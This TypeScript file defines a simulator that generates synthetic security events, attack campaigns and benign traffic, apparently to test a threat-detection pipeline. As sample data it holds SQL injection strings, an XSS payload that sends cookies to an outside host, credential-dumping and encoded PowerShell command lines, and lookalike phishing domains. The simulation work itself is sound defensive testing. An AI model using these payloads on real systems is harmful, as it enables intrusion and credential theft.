import type { SecurityEventInput } from '../../functions/src/domain/event';
import { consumerAddress, hostingAddress, HOSTS, SERVERS, workstation } from './network';
import { createRng, type Rng } from './prng';

/** Attack scenarios the simulator can run; `mixed` interleaves them all with benign traffic. */
export const ATTACK_SCENARIOS = [
  'brute-force',
  'port-scan',
  'ddos',
  'exfiltration',
  'ransomware',
  'kill-chain',
  'web-attack',
] as const;
export type AttackScenario = (typeof ATTACK_SCENARIOS)[number];
export const SCENARIOS = ['mixed', 'benign', ...ATTACK_SCENARIOS] as const;
export type Scenario = (typeof SCENARIOS)[number];

/** An event before the simulator stamps its id, time and provenance (plus its kill-chain stage). */
interface Draft {
  event_type: SecurityEventInput['event_type'];
  source_ip: SecurityEventInput['source_ip'];
  destination_ip?: string;
  destination_port?: number;
  protocol?: string;
  payload: Record<string, unknown>;
  stage?: string;
}

interface CampaignContext {
  rng: Rng;
  campaignId: string;
}

const COMMON_USERS = ['root', 'admin', 'ubuntu', 'oracle', 'test', 'postgres', 'git', 'administrator', 'user', 'support', 'deploy', 'pi'];
const EMPLOYEES = ['alice.martin', 'bob.nguyen', 'carol.smith', 'dave.okafor', 'erin.kowalski', 'frank.li', 'grace.haddad'];
const COMMON_PORTS = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 2049, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200, 11211, 27017];
const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
];
const RANSOMWARE = [
  { family: 'LockBit 3.0', extension: '.lockbit', note: 'Restore-My-Files.txt', signature: 'Ransom:Win32/Lockbit.PA!MTB' },
  { family: 'BlackCat (ALPHV)', extension: '.sykffle', note: 'RECOVER-sykffle-FILES.txt', signature: 'Ransom:Win32/BlackCat.MA!MTB' },
  { family: 'Akira', extension: '.akira', note: 'akira_readme.txt', signature: 'Ransom:Win64/Akira.CCFY!MTB' },
  { family: 'Royal', extension: '.royal_w', note: 'README.TXT', signature: 'Ransom:Win64/Royal.ZA!MTB' },
] as const;
const LOOKALIKE_DOMAINS = ['micros0ft-support.com', 'docusign-secure.net', 'paypa1-billing.com', 'office365-auth.org', 'dhl-tracking-info.net'];

/** Yields a campaign's events in order. */
type Campaign = (ctx: CampaignContext) => Generator<Draft, void, void>;

function* bruteForce({ rng }: CampaignContext): Generator<Draft> {
  const attacker = hostingAddress(rng);
  const { service, port, target } = rng.weighted([
    [{ service: 'ssh', port: 22, target: HOSTS.bastion }, 6],
    [{ service: 'rdp', port: 3389, target: workstation(rng) }, 3],
    [{ service: 'ftp', port: 21, target: HOSTS.files }, 1],
  ] as const);
  const users = rng.sample(COMMON_USERS, rng.int(2, 6));
  let attempts = 0;
  const rounds = rng.int(4, 10);
  for (let i = 0; i < rounds; i++) {
    attempts += rng.int(15, 90);
    yield {
      event_type: 'brute_force',
      source_ip: attacker.ip,
      destination_ip: target,
      destination_port: port,
      protocol: 'TCP',
      payload: {
        service,
        attempts,
        failed_attempts: attempts,
        username: users[0],
        users,
        window_seconds: 60 * (i + 1),
        auth_method: 'password',
      },
    };
  }
  if (rng.chance(0.25)) {
    yield {
      event_type: 'suspicious_login',
      source_ip: attacker.ip,
      destination_ip: target,
      destination_port: port,
      protocol: 'TCP',
      payload: { service, username: rng.pick(users), success: true, after_failed_attempts: attempts, new_source: true },
    };
  }
}

function* portScan({ rng }: CampaignContext): Generator<Draft> {
  const attacker = hostingAddress(rng);
  const target = rng.pick(SERVERS);
  const sequential = rng.chance(0.4);
  const scanType = rng.pick(['SYN', 'CONNECT', 'FIN', 'XMAS', 'NULL']);
  const rounds = rng.int(3, 6);
  let scanned = 0;
  let nextPort = 1;
  for (let i = 0; i < rounds; i++) {
    const ports = sequential
      ? Array.from({ length: rng.int(20, 50) }, () => nextPort++)
      : rng.sample(COMMON_PORTS, rng.int(8, 20)).sort((a, b) => a - b);
    scanned += ports.length;
    const open = ports.filter((p) => [22, 80, 443, 3389, 5432].includes(p));
    yield {
      event_type: 'port_scan',
      source_ip: attacker.ip,
      destination_ip: target,
      destination_port: ports[0],
      protocol: 'TCP',
      payload: { ports, ports_scanned: scanned, open_ports: open, scan_type: scanType, duration_seconds: rng.int(2, 40) },
    };
  }
}

function* ddos({ rng }: CampaignContext): Generator<Draft> {
  const vector = rng.pick([
    { attack_vector: 'HTTP flood', protocol: 'TCP', port: 443 },
    { attack_vector: 'SYN flood', protocol: 'TCP', port: 443 },
    { attack_vector: 'UDP amplification (DNS)', protocol: 'UDP', port: 53 },
    { attack_vector: 'UDP amplification (NTP)', protocol: 'UDP', port: 123 },
  ] as const);
  const target = rng.pick(HOSTS.web);
  const botnetSize = rng.int(200, 5000);
  const rounds = rng.int(8, 20);
  let rps = rng.int(1_000, 5_000);
  for (let i = 0; i < rounds; i++) {
    rps = Math.round(rps * (1 + rng.next() * 0.6));
    yield {
      event_type: 'ddos',
      source_ip: rng.chance(0.6) ? consumerAddress(rng) : hostingAddress(rng).ip,
      destination_ip: target,
      destination_port: vector.port,
      protocol: vector.protocol,
      payload: {
        attack_vector: vector.attack_vector,
        requests_per_second: rps,
        packets_per_second: rps * rng.int(2, 8),
        bandwidth_mbps: Math.round((rps * rng.int(400, 1400) * 8) / 1e6),
        botnet_size: botnetSize,
        distinct_sources: Math.min(botnetSize, rng.int(50, botnetSize)),
      },
    };
  }
}

function exfilDraft(rng: Rng, dropServer: string, victim: string, bytesOut: number, files: number): Draft {
  const method = rng.weighted([
    ['https', 6],
    ['dns', 2],
    ['ftp', 1],
  ] as const);
  const domain = `${rng.pick(['cdn', 'sync', 'backup', 'update'])}-${rng.hex(6)}.${rng.pick(['storage-sync.net', 'cloudfiles.io', 'dropzone.cc'])}`;
  const common = { bytes_out: bytesOut, bytes_in: Math.round(bytesOut / rng.int(200, 2000)), direction: 'outbound', internal_host: victim, destination_domain: domain, file_count: files, duration_seconds: rng.int(30, 3600) };
  if (method === 'dns') {
    return {
      event_type: 'data_exfiltration',
      source_ip: dropServer,
      destination_ip: victim,
      destination_port: 53,
      protocol: 'UDP',
      payload: { ...common, method: 'DNS tunneling', query: `${rng.hex(40)}.${rng.hex(12)}.t.${domain}`, queries_per_minute: rng.int(300, 3000) },
    };
  }
  return {
    event_type: 'data_exfiltration',
    source_ip: dropServer,
    destination_ip: victim,
    destination_port: method === 'ftp' ? 21 : 443,
    protocol: 'TCP',
    payload: { ...common, method: method === 'ftp' ? 'FTP upload' : 'HTTPS POST', url: `${method === 'ftp' ? 'ftp' : 'https'}://${domain}/upload/${rng.hex(8)}` },
  };
}

function* exfiltration({ rng }: CampaignContext): Generator<Draft> {
  const drop = hostingAddress(rng).ip;
  const victim = rng.pick([HOSTS.files, HOSTS.db, HOSTS.backup, workstation(rng)]);
  let bytes = rng.int(20, 200) * 1024 * 1024;
  let files = rng.int(10, 200);
  const rounds = rng.int(3, 6);
  for (let i = 0; i < rounds; i++) {
    yield exfilDraft(rng, drop, victim, bytes, files);
    bytes = Math.round(bytes * (1.5 + rng.next() * 2));
    files += rng.int(50, 800);
  }
}

function* ransomwareOutbreak({ rng }: CampaignContext, c2 = hostingAddress(rng).ip): Generator<Draft> {
  const strain = rng.pick(RANSOMWARE);
  const fileHash = rng.hex(64);
  const patientZero = workstation(rng);
  yield {
    event_type: 'malware',
    source_ip: c2,
    destination_ip: patientZero,
    destination_port: 443,
    protocol: 'TCP',
    payload: {
      signature: strain.signature,
      malware_family: strain.family,
      file_hash: fileHash,
      file_path: `C:\\Users\\Public\\${rng.pick(['svchost', 'update', 'invoice'])}_${rng.hex(4)}.exe`,
      action: 'quarantine_failed',
    },
  };
  const victims = [patientZero, ...rng.sample([...SERVERS, workstation(rng), workstation(rng)], rng.int(2, 7))];
  let encrypted = 0;
  for (const [i, host] of victims.entries()) {
    encrypted += rng.int(500, 40_000);
    yield {
      event_type: 'ransomware',
      source_ip: c2,
      destination_ip: host,
      destination_port: 445,
      protocol: 'TCP',
      payload: {
        malware_family: strain.family,
        signature: strain.signature,
        file_hash: fileHash,
        files_encrypted: encrypted,
        encrypted_extension: strain.extension,
        ransom_note: strain.note,
        hosts_affected: i + 1,
        shadow_copies_deleted: true,
      },
    };
  }
}

function* webAttack({ rng }: CampaignContext): Generator<Draft> {
  const attacker = hostingAddress(rng);
  const target = rng.pick([...HOSTS.web, HOSTS.api]);
  const sqli = rng.chance(0.6);
  const tool = sqli ? rng.pick(['sqlmap/1.8.11#stable (https://sqlmap.org)', 'Mozilla/5.0 (Havij)']) : rng.pick(BROWSERS);
  const rounds = rng.int(3, 8);
  for (let i = 0; i < rounds; i++) {
    const payload = sqli
      ? rng.pick([`1' OR '1'='1`, `1 UNION SELECT username,password FROM users--`, `1; WAITFOR DELAY '0:0:5'--`, `' AND extractvalue(1,concat(0x7e,version()))--`])
      : rng.pick([`<script>fetch('//x.${rng.hex(6)}.cc/?c='+document.cookie)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(document.domain)`]);
    const path = sqli ? rng.pick(['/products', '/api/v1/orders', '/login']) : rng.pick(['/search', '/comments', '/profile']);
    const parameter = sqli ? rng.pick(['id', 'order_id', 'user']) : rng.pick(['q', 'text', 'name']);
    yield {
      event_type: sqli ? 'sql_injection' : 'xss',
      source_ip: attacker.ip,
      destination_ip: target,
      destination_port: 443,
      protocol: 'HTTPS',
      payload: {
        url: `${path}?${parameter}=${encodeURIComponent(payload)}`,
        query: `${parameter}=${payload}`,
        parameter,
        method: sqli && rng.chance(0.3) ? 'POST' : 'GET',
        status_code: rng.pick([200, 500, 403]),
        user_agent: tool,
        requests: rng.int(5, 400),
      },
    };
  }
}

/** phishing → c2_beacon → privilege_escalation → lateral movement → data_exfiltration → ransomware. */
export const KILL_CHAIN_STAGES = [
  'delivery',
  'command_and_control',
  'privilege_escalation',
  'lateral_movement',
  'exfiltration',
  'impact',
] as const;

function* killChain(ctx: CampaignContext): Generator<Draft> {
  const { rng } = ctx;
  const mailRelay = hostingAddress(rng).ip;
  const c2 = hostingAddress(rng).ip;
  const victim = workstation(rng);
  const user = rng.pick(EMPLOYEES);
  const lure = rng.pick(LOOKALIKE_DOMAINS);
  const c2Domain = `${rng.pick(['api', 'telemetry', 'cdn'])}.${rng.pick(['azureedge-cdn.net', 'gstatic-update.com', 'win-telemetry.org'])}`;

  yield {
    stage: 'delivery',
    event_type: 'phishing',
    source_ip: mailRelay,
    destination_ip: HOSTS.mail,
    destination_port: 25,
    protocol: 'SMTP',
    payload: {
      sender: `billing@${lure}`,
      recipient: `${user}@corp.example`,
      subject: rng.pick(['Invoice overdue - action required', 'Your password expires today', 'Shared document: Q4 bonus plan']),
      url: `https://${lure}/login?session=${rng.hex(16)}`,
      attachment: `Invoice_${rng.int(1000, 9999)}.docm`,
      file_hash: rng.hex(64),
      spf: 'fail',
      dkim: 'none',
    },
  };
  const beacons = rng.int(2, 4);
  const interval = rng.pick([30, 60, 300]);
  for (let i = 0; i < beacons; i++) {
    yield {
      stage: 'command_and_control',
      event_type: 'c2_beacon',
      source_ip: c2,
      destination_ip: victim,
      destination_port: 443,
      protocol: 'TCP',
      payload: {
        beacon_interval_seconds: interval,
        jitter_percent: rng.int(5, 25),
        url: `https://${c2Domain}/api/v2/status`,
        beacons_observed: (i + 1) * rng.int(5, 20),
        bytes_out: rng.int(300, 2000),
        user_agent: BROWSERS[0],
      },
    };
  }
  yield {
    stage: 'privilege_escalation',
    event_type: 'privilege_escalation',
    source_ip: c2,
    destination_ip: victim,
    protocol: 'TCP',
    payload: {
      username: user,
      technique: rng.pick(['UAC bypass (fodhelper.exe)', 'Token impersonation', 'PrintNightmare (CVE-2021-34527)']),
      process: rng.pick(['powershell.exe -enc ...', 'rundll32.exe comsvcs.dll, MiniDump', 'cmd.exe /c whoami /priv']),
      new_privileges: 'NT AUTHORITY\\SYSTEM',
    },
  };
  const hops = rng.sample([HOSTS.dc, HOSTS.files, HOSTS.db, HOSTS.backup], rng.int(1, 3));
  for (const host of hops) {
    yield {
      stage: 'lateral_movement',
      event_type: 'suspicious_login',
      source_ip: victim,
      destination_ip: host,
      destination_port: rng.pick([445, 3389, 5985]),
      protocol: 'TCP',
      payload: {
        username: rng.pick(['svc-backup', 'administrator', user]),
        method: rng.pick(['PsExec', 'WMI', 'RDP', 'WinRM']),
        lateral_movement: true,
        from_host: victim,
        logon_type: 3,
        success: true,
      },
    };
  }
  yield { stage: 'exfiltration', ...exfilDraft(rng, c2, hops[0] ?? HOSTS.files, rng.int(2, 40) * 1024 ** 3, rng.int(1000, 50_000)) };
  for (const draft of ransomwareOutbreak(ctx, c2)) {
    if (draft.event_type === 'ransomware') yield { stage: 'impact', ...draft };
  }
}

const CAMPAIGNS: Record<AttackScenario, Campaign> = {
  'brute-force': bruteForce,
  'port-scan': portScan,
  ddos,
  exfiltration,
  ransomware: ransomwareOutbreak,
  'kill-chain': killChain,
  'web-attack': webAttack,
};

/** How often each attack starts in the mixed scenario. */
const MIXED_WEIGHTS: readonly (readonly [AttackScenario, number])[] = [
  ['brute-force', 5],
  ['port-scan', 5],
  ['web-attack', 3],
  ['ddos', 2],
  ['exfiltration', 2],
  ['ransomware', 1],
  ['kill-chain', 1],
];

/** Everyday traffic: arrives as event types the rules do not know, so the pipeline files them as `unknown`. */
function benignDraft(rng: Rng): Draft {
  const kind = rng.weighted([
    ['http_request', 5],
    ['dns_query', 4],
    ['auth_success', 2],
    ['netflow', 3],
  ] as const);
  switch (kind) {
    case 'http_request':
      return {
        event_type: 'http_request',
        source_ip: consumerAddress(rng),
        destination_ip: rng.pick(HOSTS.web),
        destination_port: 443,
        protocol: 'HTTPS',
        payload: {
          method: rng.weighted([['GET', 9], ['POST', 1]] as const),
          url: rng.pick(['/', '/products', '/products/42', '/cart', '/about', '/static/app.js', '/api/v1/health']),
          status_code: rng.weighted([[200, 18], [304, 3], [404, 1]] as const),
          user_agent: rng.pick(BROWSERS),
          bytes_out: rng.int(400, 90_000),
          response_ms: rng.int(8, 300),
        },
      };
    case 'dns_query':
      return {
        event_type: 'dns_query',
        source_ip: workstation(rng),
        destination_ip: HOSTS.dns,
        destination_port: 53,
        protocol: 'UDP',
        payload: {
          query: rng.pick(['www.google.com', 'outlook.office365.com', 'github.com', 'slack.com', 'updates.ubuntu.com', 'corp.example']),
          record_type: rng.weighted([['A', 6], ['AAAA', 3], ['MX', 1]] as const),
          response_code: 'NOERROR',
        },
      };
    case 'auth_success':
      return {
        event_type: 'auth_success',
        source_ip: workstation(rng),
        destination_ip: HOSTS.dc,
        destination_port: 88,
        protocol: 'TCP',
        payload: { username: rng.pick(EMPLOYEES), method: 'kerberos', mfa: true, success: true },
      };
    case 'netflow':
      return {
        event_type: 'netflow',
        source_ip: workstation(rng),
        destination_ip: rng.pick(SERVERS),
        destination_port: rng.pick([443, 445, 5432, 389]),
        protocol: 'TCP',
        payload: { bytes_out: rng.int(200, 200_000), bytes_in: rng.int(200, 2_000_000), duration_seconds: rng.int(1, 120), packets: rng.int(4, 2000) },
      };
  }
}

export interface SimulatedEvent {
  event: SecurityEventInput;
  scenario: AttackScenario | 'benign';
  benign: boolean;
  campaignId?: string;
}

export interface SimulationOptions {
  seed: number;
  scenario?: Scenario;
  /** Share of benign events, 0..1 (default 0.6 for mixed, 0.3 for one attack, 1 for benign). */
  benignRatio?: number;
  /** Attack campaigns running side by side. */
  concurrentCampaigns?: number;
  /** Event time for the nth event (default: now). */
  clock?: (index: number) => Date;
}

/** An endless, deterministic (for a given seed) stream of events. */
export class Simulation {
  private readonly rng: Rng;
  private readonly scenario: Scenario;
  private readonly benignRatio: number;
  private readonly maxCampaigns: number;
  private readonly clock: (index: number) => Date;
  private readonly idPrefix: string;
  private readonly active: { id: string; scenario: AttackScenario; events: Generator<Draft, void, void> }[] = [];
  private sequence = 0;
  private campaignSequence = 0;
  readonly campaignsStarted: Partial<Record<AttackScenario, number>> = {};

  constructor(options: SimulationOptions) {
    this.rng = createRng(options.seed);
    this.scenario = options.scenario ?? 'mixed';
    this.benignRatio =
      options.benignRatio ?? (this.scenario === 'benign' ? 1 : this.scenario === 'mixed' ? 0.6 : 0.3);
    if (this.benignRatio < 0 || this.benignRatio > 1) throw new RangeError('benignRatio must be within 0..1');
    if (this.scenario === 'benign' && this.benignRatio < 1) throw new RangeError('the benign scenario has only benign events');
    this.maxCampaigns = options.concurrentCampaigns ?? (this.scenario === 'mixed' ? 3 : 1);
    this.clock = options.clock ?? (() => new Date());
    this.idPrefix = `sim-${(options.seed >>> 0).toString(16).padStart(8, '0')}`;
  }

  next(): SimulatedEvent {
    const index = this.sequence++;
    const event_id = `${this.idPrefix}-${String(index).padStart(8, '0')}`;
    const timestamp = this.clock(index).toISOString();
    if (this.scenario === 'benign' || this.rng.chance(this.benignRatio)) {
      const draft = benignDraft(this.rng);
      return {
        event: { event_id, timestamp, ...draft, metadata: { simulator: 'threatstream-sim', scenario: 'benign' } },
        scenario: 'benign',
        benign: true,
      };
    }
    const { campaign, draft } = this.nextAttackDraft();
    const { stage, ...fields } = draft;
    return {
      event: {
        event_id,
        timestamp,
        ...fields,
        metadata: {
          simulator: 'threatstream-sim',
          scenario: campaign.scenario,
          campaign_id: campaign.id,
          ...(stage && { kill_chain_stage: stage, kill_chain_step: KILL_CHAIN_STAGES.indexOf(stage as never) + 1 }),
        },
      },
      scenario: campaign.scenario,
      benign: false,
      campaignId: campaign.id,
    };
  }

  private startCampaign() {
    const scenario = this.scenario === 'mixed' ? this.rng.weighted(MIXED_WEIGHTS) : (this.scenario as AttackScenario);
    const id = `${this.idPrefix}-c${String(this.campaignSequence++).padStart(4, '0')}`;
    const rng = this.rng.fork();
    const campaign = { id, scenario, events: CAMPAIGNS[scenario]({ rng, campaignId: id }) };
    this.campaignsStarted[scenario] = (this.campaignsStarted[scenario] ?? 0) + 1;
    this.active.push(campaign);
    return campaign;
  }

  private nextAttackDraft() {
    while (this.active.length < this.maxCampaigns) this.startCampaign();
    for (;;) {
      const slot = this.rng.int(0, this.active.length - 1);
      const campaign = this.active[slot]!;
      const step = campaign.events.next();
      if (!step.done) return { campaign, draft: step.value };
      this.active.splice(slot, 1);
      this.startCampaign();
    }
  }
}
